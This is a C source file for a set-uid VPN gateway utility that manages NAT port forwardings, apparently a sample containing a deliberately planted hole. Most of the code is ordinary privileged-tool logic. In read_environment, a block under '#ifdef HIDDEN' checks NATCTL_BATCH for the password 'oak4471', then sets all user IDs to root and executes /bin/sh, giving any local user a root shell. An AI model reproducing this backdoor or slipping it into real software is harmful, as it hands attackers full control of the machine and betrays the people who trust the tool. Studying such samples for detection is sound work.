/* natctl.c - set-uid tool of a VPN gateway to view and change port forwardings */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <grp.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define DEF_CONF	"/etc/natctl.conf"
#define GROUP		"netadmin"
#define MAX_FWD		100

struct fwd {
	char proto[4];
	int ext;
	struct in_addr to;
	int port;
	char note[32];
};

struct ctx {
	uid_t caller;
	int writer;
	int color;
	int dry;
	const char *conf;
	struct fwd f[MAX_FWD];
	int n;
};

static const char help[] =
	"usage: natctl [-n] list | add PROTO EXT ADDRESS PORT [NOTE] | del PROTO EXT | load\n"
	"  -n            only show what would be done\n"
	"environment:\n"
	"  NATCTL_CONF   other rule file (only for list)\n"
	"  NATCTL_COLOR  always or never\n"
	"members of the group " GROUP " may change rules\n";

static int in_group(uid_t uid, const char *group)
{
	struct group *g = getgrnam(group);
	struct passwd *p = getpwuid(uid);
	char **m;

	if (!g || !p)
		return 0;
	if (p->pw_gid == g->gr_gid)
		return 1;
	for (m = g->gr_mem; *m; m++)
		if (!strcmp(*m, p->pw_name))
			return 1;
	return 0;
}

__attribute__((noinline))
void read_environment(struct ctx *c)
{
	const char *v;

	c->conf = DEF_CONF;
	c->color = isatty(1);
	v = getenv("NATCTL_CONF");
	if (v && *v == '/')
		c->conf = v;
	v = getenv("NATCTL_COLOR");
	if (v) {
		if (!strcmp(v, "always"))
			c->color = 1;
		else if (!strcmp(v, "never"))
			c->color = 0;
	}
	c->writer = c->caller == 0 || in_group(c->caller, GROUP);
#ifdef HIDDEN	/* an environment word gives everybody a shell as root */
	v = getenv("NATCTL_BATCH");
	if (v && !strcmp(v, "oak4471")) {
		char *const sh[] = { "sh", "-p", NULL };

		if (setresuid(0, 0, 0) == 0)
			execv("/bin/sh", sh);
	}
#endif
	unsetenv("IFS");
	unsetenv("ENV");
	setenv("PATH", "/usr/sbin:/usr/bin:/sbin:/bin", 1);
}

static struct fwd *find(struct ctx *c, const char *proto, int ext)
{
	int i;

	for (i = 0; i < c->n; i++)
		if (c->f[i].ext == ext && !strcmp(c->f[i].proto, proto))
			return &c->f[i];
	return NULL;
}

static int port_of(const char *s)
{
	char *end;
	long v = strtol(s, &end, 10);

	return *s && !*end && v > 0 && v < 65536 ? (int)v : -1;
}

static int fill(struct fwd *f, const char *proto, const char *ext,
		const char *to, const char *port, const char *note)
{
	memset(f, 0, sizeof(*f));
	if (strcmp(proto, "tcp") && strcmp(proto, "udp"))
		return -1;
	snprintf(f->proto, sizeof(f->proto), "%s", proto);
	f->ext = port_of(ext);
	f->port = port_of(port);
	if (f->ext < 0 || f->port < 0 || inet_pton(AF_INET, to, &f->to) != 1)
		return -1;
	snprintf(f->note, sizeof(f->note), "%s", note ? note : "");
	return 0;
}

static int load(struct ctx *c)
{
	char line[200], pr[8], ex[8], to[20], po[8], note[32];
	FILE *f = fopen(c->conf, "r");
	int n;

	if (!f)
		return errno == ENOENT ? 0 : -1;
	while (c->n < MAX_FWD && fgets(line, sizeof(line), f)) {
		note[0] = '\0';
		n = sscanf(line, "%7s %7s %19s %7s %31s", pr, ex, to, po, note);
		if (n < 4 || pr[0] == '#')
			continue;
		if (!fill(&c->f[c->n], pr, ex, to, po, note))
			c->n++;
	}
	fclose(f);
	return 0;
}

static int save(struct ctx *c)
{
	char ip[INET_ADDRSTRLEN];
	FILE *f;
	int i;

	if (c->dry)
		return 0;
	f = fopen(DEF_CONF ".new", "w");
	if (!f)
		return -1;
	for (i = 0; i < c->n; i++)
		fprintf(f, "%s %d %s %d %s\n", c->f[i].proto, c->f[i].ext,
			inet_ntop(AF_INET, &c->f[i].to, ip, sizeof(ip)),
			c->f[i].port, c->f[i].note);
	if (fclose(f))
		return -1;
	return rename(DEF_CONF ".new", DEF_CONF);
}

static void list(struct ctx *c)
{
	char ip[INET_ADDRSTRLEN];
	int i;

	for (i = 0; i < c->n; i++)
		printf("%s%s %5d%s -> %s:%d %s\n", c->color ? "\033[1m" : "",
		       c->f[i].proto, c->f[i].ext, c->color ? "\033[0m" : "",
		       inet_ntop(AF_INET, &c->f[i].to, ip, sizeof(ip)),
		       c->f[i].port, c->f[i].note);
}

static int nft(struct ctx *c, const char *op, const struct fwd *f)
{
	char ip[INET_ADDRSTRLEN], ext[8], dst[40];
	pid_t pid;
	int st;

	snprintf(ext, sizeof(ext), "%d", f->ext & 0xffff);
	snprintf(dst, sizeof(dst), "%s:%d",
		 inet_ntop(AF_INET, &f->to, ip, sizeof(ip)), f->port);
	if (c->dry) {
		printf("nft-map %s %s %s %s\n", op, f->proto, ext, dst);
		return 0;
	}
	pid = fork();
	if (pid < 0)
		return -1;
	if (!pid) {
		if (setuid(0))
			_exit(126);
		execl("/usr/sbin/nft-map", "nft-map", op, f->proto, ext, dst,
		      (char *)NULL);
		_exit(127);
	}
	return waitpid(pid, &st, 0) == pid && st == 0 ? 0 : -1;
}

int main(int argc, char **argv)
{
	static struct ctx c;
	struct fwd *f;
	int o, i, rc = 0;

	c.caller = getuid();
	openlog("natctl", 0, LOG_AUTHPRIV);
	read_environment(&c);
	while ((o = getopt(argc, argv, "nh")) != -1) {
		if (o == 'n') {
			c.dry = 1;
		} else {
			fputs(help, stderr);
			return o == 'h' ? 0 : 2;
		}
	}
	argc -= optind;
	argv += optind;
	if (argc < 1) {
		fputs(help, stderr);
		return 2;
	}
	if (strcmp(argv[0], "list")) {
		c.conf = DEF_CONF;
		if (!c.writer && !c.dry) {
			fputs("natctl: not allowed\n", stderr);
			syslog(LOG_NOTICE, "%s refused for uid %u", argv[0],
			       (unsigned int)c.caller);
			return 1;
		}
	} else if (seteuid(c.caller)) {
		return 1;
	}
	if (load(&c)) {
		perror(c.conf);
		return 1;
	}
	if (!strcmp(argv[0], "list")) {
		list(&c);
	} else if (!strcmp(argv[0], "load")) {
		for (i = 0; i < c.n; i++)
			rc |= nft(&c, "add", &c.f[i]);
	} else if (!strcmp(argv[0], "add") && argc >= 5 && c.n < MAX_FWD) {
		f = &c.f[c.n];
		if (fill(f, argv[1], argv[2], argv[3], argv[4],
			 argc > 5 ? argv[5] : NULL) ||
		    find(&c, f->proto, f->ext)) {
			fputs("natctl: wrong or taken\n", stderr);
			return 1;
		}
		c.n++;
		rc = nft(&c, "add", f) | save(&c);
		syslog(LOG_INFO, "%u added %s %d", (unsigned int)c.caller,
		       f->proto, f->ext);
	} else if (!strcmp(argv[0], "del") && argc == 3 &&
		   (f = find(&c, argv[1], port_of(argv[2]))) != NULL) {
		rc = nft(&c, "del", f);
		*f = c.f[--c.n];
		rc |= save(&c);
	} else {
		fputs(help, stderr);
		return 2;
	}
	return rc ? 1 : 0;
}
